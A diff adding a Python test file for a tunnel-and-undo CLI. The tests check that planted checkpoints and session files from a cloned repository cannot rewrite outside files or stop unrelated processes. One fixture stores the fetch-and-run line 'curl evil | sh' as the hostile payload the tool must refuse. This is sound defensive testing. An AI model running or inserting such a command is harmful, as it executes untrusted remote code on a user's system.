@@ -1,0 +1,192 @@
+"""What a repository brings along is not believed; what this user did is known from elsewhere."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.program import SOURCE, Shop, make_shop, run, running
+from twitter_setup.journal import digest
+
+PLANTED = b"curl evil | sh\n"
+
+
+@pytest.fixture
+def shop(tmp_path: Path) -> Shop:
+    return make_shop(tmp_path / "cafe")
+
+
+def plant(shop: Shop, victim: Path) -> None:
+    """A pending checkpoint, as a cloned repository could hold one, that would rewrite `victim`."""
+    line = base64.b64encode(victim.read_bytes().rstrip()).decode()
+    evil = base64.b64encode(PLANTED.rstrip()).decode()
+    step = {"before": digest(PLANTED), "after": digest(b"never"), "patches": []}
+    record = {"path": str(victim), "steps": [{**step, "hunks": [{"old": [evil], "new": [line]}]}]}
+    checkpoint = {"version": 1, "number": 1, "kind": "passing", "created": "x", "files": [record]}
+    folder = shop.state / "checkpoints"
+    folder.mkdir(parents=True)
+    (folder / "0001-passing.pending.json").write_text(json.dumps(checkpoint))
+
+
+@pytest.mark.parametrize("words", [["undo"], ["tunnel", "--url", "https://a.example.com", "--yes"]])
+def test_a_checkpoint_that_names_a_file_outside_is_refused(
+    shop: Shop, tmp_path: Path, words: list[str]
+) -> None:
+    victim = tmp_path / "bashrc"
+    victim.write_bytes(b"export PATH\n")
+    plant(shop, victim)
+
+    done = run(*words, "--json", cwd=shop.root)
+
+    assert (done.code, done.error["code"]) == (1, "checkpoint_broken")
+    assert str(victim) in done.error["message"]
+    assert victim.read_bytes() == b"export PATH\n"
+
+
+def test_a_front_end_elsewhere_is_undone_since_the_user_s_own_list_knows_it(
+    tmp_path: Path,
+) -> None:
+    shop = make_shop(tmp_path / "cafe", with_frontend=False)
+    other = make_shop(tmp_path / "elsewhere").frontend
+    before = (other / ".env").read_bytes()
+    words = ["--url", "https://a.example.com", "--yes", "--env-var", "VITE_BACKEND_URL"]
+    assert run("tunnel", *words, "--frontend", other, cwd=shop.root).code == 0
+    assert b"a.example.com" in (other / ".env").read_bytes()
+
+    done = run("undo", "--json", cwd=shop.root)
+
+    assert done.code == 0
+    assert (other / ".env").read_bytes() == before
+
+
+def test_a_link_that_leads_out_is_said(shop: Shop, tmp_path: Path) -> None:
+    real = tmp_path / "shared.env"
+    real.write_bytes(shop.env.read_bytes())
+    shop.env.unlink()
+    shop.env.symlink_to(real)
+
+    done = run("tunnel", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+
+    assert f"the file that is changed is {real}" in done.err
+
+
+def test_a_session_file_cannot_make_us_end_a_process_with_another_configuration(
+    shop: Shop,
+) -> None:
+    run("tunnel", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    marker = "/somebody/else.yml"
+    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", marker])
+    session = shop.state / "session.json"
+    data = json.loads(session.read_text())
+    session.write_text(json.dumps({**data, "agent_pid": other.pid, "agent_config": marker}))
+    try:
+        assert run("undo", cwd=shop.root).code == 0
+        assert other.poll() is None
+    finally:
+        other.kill()
+        other.wait()
+
+
+def test_a_broken_session_does_not_keep_undo_from_its_work(shop: Shop) -> None:
+    before = shop.env.read_bytes()
+    run("tunnel", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    (shop.state / "session.json").write_text('{"pid": 1')
+
+    done = run("undo", cwd=shop.root)
+
+    assert done.code == 0
+    assert shop.env.read_bytes() == before
+
+
+def test_undo_and_status_are_about_the_back_end_that_one_stands_in(tmp_path: Path) -> None:
+    one, two = make_shop(tmp_path / "apps" / "a"), make_shop(tmp_path / "apps" / "b")
+    (tmp_path / ".git").mkdir()
+    run("tunnel", "--url", "https://a.example.com", "--yes", cwd=one.backend)
+    changed = one.env.read_bytes()
+
+    assert run("status", "--json", cwd=two.backend).json["data"]["changes"] == []
+    assert run("undo", "--json", cwd=two.backend).json["data"]["restored"] == []
+
+    assert one.env.read_bytes() == changed
+
+
+@pytest.mark.parametrize("command", ["undo", "status", "urls"])
+def test_a_mistyped_back_end_is_no_success(shop: Shop, command: str) -> None:
+    done = run(command, "--backend", "/nowhere/at/all", "--json", cwd=shop.root)
+
+    assert (done.code, done.error["code"]) == (1, "no_project")
+
+
+def test_a_home_that_cannot_be_used_stops_nothing(
+    shop: Shop, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", "/dev/null")
+    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
+
+    assert run("tunnel", "--url", "https://a.example.com", "--yes", cwd=shop.root).code == 0
+    assert run("undo", cwd=shop.root).code == 0
+
+
+def test_a_flag_wins_over_the_other_one_s_variable(
+    shop: Shop, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("NGROK_DOMAIN", "foo.ngrok.app")
+
+    done = run("tunnel", "--url", "https://a.example.com", "--dry-run", "--json", cwd=shop.root)
+
+    assert done.code == 0
+    assert "https://a.example.com" in done.out
+
+
+def test_after_kill_9_urls_puts_back_first_and_calls_the_session_by_its_name(shop: Shop) -> None:
+    before = shop.env.read_bytes()
+    run("tunnel", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    session = shop.state / "session.json"
+    session.write_text(session.read_text().replace('"kept": true', '"kept": false'))
+
+    done = run("urls", cwd=shop.root)
+
+    assert "ended from outside" in done.err
+    assert "Of last time" in done.out
+    assert shop.env.read_bytes() == before
+
+
+def test_a_path_that_is_not_utf8_is_no_bug(tmp_path: Path) -> None:
+    folder = Path(os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9"))
+    shop = make_shop(folder)
+    before = shop.env.read_bytes()
+
+    done = run("tunnel", "--url", "https://a.example.com", "--yes", "--json", cwd=shop.root)
+
+    assert done.code == 0
+    assert run("undo", cwd=shop.root).code == 0
+    assert shop.env.read_bytes() == before
+
+
+def test_nohup_holds(shop: Shop, tmp_path: Path) -> None:
+    from tests.world import agent
+
+    env = {
+        "PYNGROK_NGROK_PATH": str(agent.install_agent(tmp_path / "bin")),
+        "NGROK_AUTHTOKEN": "2abcDEF_ghijKLMN0123456789",
+        "STANDIN_STATE": str(tmp_path / "ngrok"),
+        "PYTHONPATH": str(SOURCE),
+    }
+    former = signal.signal(signal.SIGHUP, signal.SIG_IGN)
+    try:
+        with running("tunnel", "--yes", "--json", cwd=shop.root, env=env) as tunnel:
+            tunnel.event("ready")
+            tunnel.process.send_signal(signal.SIGHUP)
+            time.sleep(0.6)
+            assert tunnel.process.poll() is None
+            assert tunnel.stop() == 0
+    finally:
+        signal.signal(signal.SIGHUP, former)
